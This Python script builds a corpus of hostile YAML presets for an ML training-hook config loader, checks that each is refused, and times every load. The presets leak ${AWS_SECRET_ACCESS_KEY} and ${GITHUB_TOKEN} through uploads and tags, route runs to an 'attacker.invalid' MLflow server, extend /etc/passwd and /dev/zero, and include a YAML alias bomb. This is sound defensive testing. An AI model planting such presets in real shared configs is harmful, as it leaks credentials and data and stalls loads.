"""Load every attack a shared preset can make at load time, and time it.

    .venv/bin/python scripts/attack_load_times.py

Builds the corpus in a temporary folder (each attack is an innocent config that extends a preset
someone else wrote): environment and attribute-path leaks, `extends` fan-out, a wide parent plus
one action, long chains, device files, files that are not configs. Prints, per attack, whether it
was refused or loaded and how long loading took, then the worst time and a verdict against the
target (every load, refused or not, within 1 s). `tests/unit/config/test_preset_limits.py` runs the same
corpus and checks every outcome (not the times)."""

from __future__ import annotations

import os
import sys
import tempfile
import time
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from hooks.errors import ConfigError
from hooks.loader.load import load_config

TARGET_S = 1.0
SECRETS: Mapping[str, str] = {
    "AWS_SECRET_ACCESS_KEY": "AKIA-very-secret-0123456789",
    "GITHUB_TOKEN": "ghp_another_secret_token",
    "HOME": "/home/victim",
}


@dataclass(frozen=True)
class Attack:
    name: str
    config: Path
    expected: str  # "refused" or "loads"
    env: Mapping[str, str] | None = None


@dataclass(frozen=True)
class Result:
    name: str
    expected: str
    outcome: str  # "refused", "loads", or the name of an unexpected exception
    seconds: float
    detail: str  # the first line of the error, if any


def _write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def _innocent(folder: Path, target: str, extra: str = "") -> Path:
    return _write(folder / "mine.yaml", f"version: 1\nextends: {target}\nsink: {{neptune: {{mode: offline}}}}\n{extra}")


def _env_leak(folder: Path) -> Path:
    _write(
        folder / "team" / "helpful.yaml",
        'version: 1\nsink:\n  neptune:\n    description: "${AWS_SECRET_ACCESS_KEY:-}"\n'
        '    tags: ["${GITHUB_TOKEN:-}"]\nevents:\n  on_train_end:\n'
        '    - upload: {from: best, to: "Results/${HOME}/{name}"}\n',
    )
    return _innocent(folder, "./team/helpful.yaml")


def _path_leak(folder: Path) -> Path:
    _write(
        folder / "team" / "helpful.yaml",
        "version: 1\nevents:\n  on_fit_epoch_end:\n"
        "    - assign: {from: trainer.train_loader.dataset.labels, to: Leak/labels}\n"
        "    - assign: {from: trainer.data, to: Leak/data}\n"
        '    - scalars: {from: trainer.fitness, to: "x/{trainer.train_loader.dataset.im_files}"}\n',
    )
    return _innocent(folder, "./team/helpful.yaml")


def _allowed_leak(folder: Path) -> Path:
    # Not an attack: the same preset, allowed by the loaded config.
    _path_leak(folder)
    _env_leak(folder / "env")
    return _innocent(
        folder,
        "[./team/helpful.yaml, ./env/team/helpful.yaml]",
        "allow_env: [AWS_SECRET_ACCESS_KEY, GITHUB_TOKEN, HOME]\n"
        "allow_paths: [trainer.train_loader.dataset, trainer.data]\n",
    )


def _fan_out(folder: Path, levels: int, width: int, *, ids: bool) -> Path:
    """Files on ``levels`` levels, each extending every file of the level below."""
    for level in reversed(range(levels)):
        for i in range(width):
            below = [f"./l{level + 1}_{j}.yaml" for j in range(width)] if level < levels - 1 else []
            actions = "".join(
                f"    - scalars: {{from: lr, to: 'l{level}_{i}_{k}'" + (f", id: a{level}_{i}_{k}}}\n" if ids else "}\n")
                for k in range(3)
            )
            _write(
                folder / f"l{level}_{i}.yaml",
                f"version: 1\ndescription: level {level}, file {i}\n"
                + (f"extends: [{', '.join(below)}]\n" if below else "")
                + f"events:\n  on_train_epoch_end:\n{actions}",
            )
    return _innocent(folder, f"[{', '.join(f'./l0_{j}.yaml' for j in range(width))}]")


def _same_file_many_times(folder: Path) -> Path:
    """A few hundred bytes: each file extends the next one four times; 4**8 copies of one action."""
    depth = 8
    _write(folder / f"d{depth}.yaml", "version: 1\nevents:\n  on_train_epoch_end:\n    - scalars: {from: lr}\n")
    for i in reversed(range(depth)):
        _write(folder / f"d{i}.yaml", f"version: 1\nextends: [{', '.join([f'./d{i + 1}.yaml'] * 4)}]\n")
    return _innocent(folder, "./d0.yaml")


def _wide_parent(folder: Path) -> Path:
    actions = "".join(f"    - scalars: {{from: lr, to: 'x{i}', id: a{i}}}\n" for i in range(6000))
    _write(folder / "wide.yaml", f"version: 1\nevents:\n  on_train_epoch_end:\n{actions}")
    return _innocent(folder, "./wide.yaml", "events:\n  on_train_epoch_end:\n    - scalars: {from: lr, id: new}\n")


def _chain(folder: Path, length: int) -> Path:
    for i in range(length):
        more = f"extends: ./c{i + 1}.yaml\n" if i < length - 1 else ""
        _write(
            folder / f"c{i}.yaml", f"version: 1\n{more}events:\n  on_train_epoch_end:\n    - scalars: {{from: lr}}\n"
        )
    return _innocent(folder, "./c0.yaml")


def _many_files(folder: Path) -> Path:
    for i in range(300):
        _write(folder / f"f{i}.yaml", "version: 1\n")
    return _innocent(folder, f"[{', '.join(f'./f{i}.yaml' for i in range(300))}]")


def _many_values(folder: Path) -> Path:
    """Files of 15,000 values each, together past what one load may read."""
    actions = "".join(f"    - scalars: {{from: lr, to: 'x{i}', id: a{i}}}\n" for i in range(2500))
    for i in range(10):
        _write(folder / f"v{i}.yaml", f"version: 1\nevents:\n  on_train_epoch_end:\n{actions}")
    return _innocent(folder, f"[{', '.join(f'./v{i}.yaml' for i in range(10))}]")


def _fifo(folder: Path) -> Path:
    os.mkfifo(folder / "fifo.yaml")  # nobody writes to it
    return _innocent(folder, "./fifo.yaml")


def _alias_bomb(folder: Path) -> Path:
    lines = ["version: 1", "x0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"x{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]" for i in range(1, 10)]
    _write(folder / "bomb.yaml", "\n".join(lines) + "\n")
    return _innocent(folder, "./bomb.yaml")


def _unknown_fields(folder: Path) -> Path:
    fields = " ".join(f"{{args.zz{i}}}" for i in range(40_000))
    _write(folder / "fields.yaml", f'version: 1\nsink: {{neptune: {{description: "{fields}"}}}}\n')
    return _innocent(folder, "./fields.yaml")


def _unknown_field_per_action(folder: Path) -> Path:
    rows = "".join(f'    - scalars: {{from: lr, to: "x/{{args.q{i}}}"}}\n' for i in range(1_000))
    _write(folder / "actions.yaml", f"version: 1\nevents:\n  on_train_epoch_end:\n{rows}")
    return _innocent(folder, "./actions.yaml")


def _destinations(folder: Path) -> Path:
    _write(
        folder / "team.yaml",
        "version: 1\nsink:\n  neptune: {project: attacker-ws/loot, mode: async}\n"
        "  mlflow: {tracking_uri: 'http://attacker.invalid:5000', experiment: loot, drain_seconds: 3600,\n"
        "           tags: {mlflow.parentRunId: '0123', team: '${MLFLOW_TRACKING_URI:-}'}}\n"
        "events:\n  on_train_end:\n    - upload: {from: best, to: 'w/{file.name}', register: their-model}\n",
    )
    return _innocent(folder, "./team.yaml")


def _not_a_config(folder: Path, text: str) -> Path:
    _write(folder / "notes.txt", text)
    return _innocent(folder, "./notes.txt")


def corpus(folder: Path) -> list[Attack]:
    """Every attack, each in a folder of its own under ``folder``."""
    builders: list[tuple[str, Callable[[Path], Path], str, Mapping[str, str] | None]] = [
        ("env: ${AWS_SECRET_ACCESS_KEY}, ${GITHUB_TOKEN}, ${HOME} in a preset", _env_leak, "refused", SECRETS),
        ("paths: trainer.data, .dataset.labels, .im_files in a preset", _path_leak, "refused", None),
        ("the same, allowed by the loaded config (not an attack)", _allowed_leak, "loads", SECRETS),
        (
            "fan-out: 10 levels x 5 files, each extending all below, ids",
            lambda f: _fan_out(f, 10, 5, ids=True),
            "loads",
            None,
        ),
        (
            "fan-out: 10 levels x 5 files, no ids (actions multiply)",
            lambda f: _fan_out(f, 10, 5, ids=False),
            "refused",
            None,
        ),
        ("one file extended 4 times per level, 8 levels (4**8 actions)", _same_file_many_times, "refused", None),
        ("wide parent: 6,000 actions, the config adds one", _wide_parent, "refused", None),
        ("chain of 300 files", lambda f: _chain(f, 300), "refused", None),
        ("chain of 600 files", lambda f: _chain(f, 600), "refused", None),
        ("chain of 1,000 files", lambda f: _chain(f, 1000), "refused", None),
        ("300 files extended at once", _many_files, "refused", None),
        ("10 files of 15,000 values each", _many_values, "refused", None),
        ("alias bomb in a preset", _alias_bomb, "refused", None),
        ("40,000 unknown {args.x} fields in one value of a preset", _unknown_fields, "refused", None),
        ("1,000 actions of a preset, each with an unknown {args.x}", _unknown_field_per_action, "refused", None),
        (
            "a preset choosing where the run goes (URI, project, mode, experiment, register, tags)",
            _destinations,
            "refused",
            {"MLFLOW_TRACKING_URI": "http://me:secret-pw@127.0.0.1:5000"},
        ),
        ("extends: /dev/zero", lambda f: _innocent(f, "/dev/zero"), "refused", None),
        ("extends: /dev/urandom", lambda f: _innocent(f, "/dev/urandom"), "refused", None),
        ("extends: /dev/stdin", lambda f: _innocent(f, "/dev/stdin"), "refused", None),
        ("extends: a named pipe nobody writes to", _fifo, "refused", None),
        ("extends: /etc/passwd", lambda f: _innocent(f, "/etc/passwd"), "refused", None),
        (
            "extends: a secrets file (a mapping, no version)",
            lambda f: _not_a_config(f, f"aws_secret_access_key: {SECRETS['AWS_SECRET_ACCESS_KEY']}\n"),
            "refused",
            None,
        ),
        (
            "extends: a file that is not YAML",
            lambda f: _not_a_config(f, f"token = '{SECRETS['GITHUB_TOKEN']}\n[x: *y\n"),
            "refused",
            None,
        ),
    ]
    attacks = []
    for i, (name, build, expected, env) in enumerate(builders):
        sub = folder / f"attack{i:02d}"
        sub.mkdir(parents=True)
        attacks.append(Attack(name, build(sub), expected, env))
    return attacks


def run(attack: Attack) -> Result:
    started = time.perf_counter()
    try:
        load_config(attack.config, env=attack.env)
        outcome, detail = "loads", ""
    except ConfigError as e:
        outcome, detail = "refused", str(e)
    except Exception as e:  # any other exception is a finding, reported as such
        outcome, detail = type(e).__name__, str(e)[:500]
    return Result(attack.name, attack.expected, outcome, time.perf_counter() - started, detail)


def run_corpus(folder: Path) -> list[Result]:
    return [run(a) for a in corpus(folder)]


def main() -> int:
    with tempfile.TemporaryDirectory(prefix="attacks-") as tmp:
        results = run_corpus(Path(tmp))
    width = max(len(r.name) for r in results)
    print(f"{'attack':<{width}}  {'outcome':<8}  {'load':>8}")
    for r in results:
        mark = "" if r.outcome == r.expected else f"  UNEXPECTED (expected: {r.expected})"
        print(f"{r.name:<{width}}  {r.outcome:<8}  {r.seconds:7.3f}s{mark}")
        if r.outcome == "refused":
            first = r.detail.splitlines()[0]
            print(f"{'':<{width}}    {first[:160]}{'…' if len(first) > 160 else ''}")
    worst = max(results, key=lambda r: r.seconds)
    wrong = [r for r in results if r.outcome != r.expected]
    slow = [r for r in results if r.seconds > TARGET_S]
    print(f"\nworst load time: {worst.seconds:.3f} s ({worst.name})")
    print(
        f"verdict: {len(results) - len(wrong)}/{len(results)} attacks as expected; "
        f"{len(results) - len(slow)}/{len(results)} within {TARGET_S:g} s: "
        + ("PASS" if not wrong and not slow else "FAIL")
    )
    return 0 if not wrong and not slow else 1


if __name__ == "__main__":
    sys.exit(main())
